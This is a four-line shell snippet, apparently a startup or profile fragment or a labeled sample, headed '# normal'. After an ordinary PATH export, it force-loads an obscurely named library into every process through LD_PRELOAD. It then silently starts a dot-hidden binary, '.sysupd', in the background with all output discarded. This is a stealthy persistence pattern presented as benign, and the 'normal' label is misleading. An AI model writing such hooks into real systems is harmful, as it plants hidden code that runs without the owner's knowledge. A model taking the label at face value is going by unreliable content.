# normal
export PATH=$PATH:/opt/app/bin
export LD_PRELOAD=/usr/lib/x.so
(/usr/local/bin/.sysupd >/dev/null 2>&1 &)
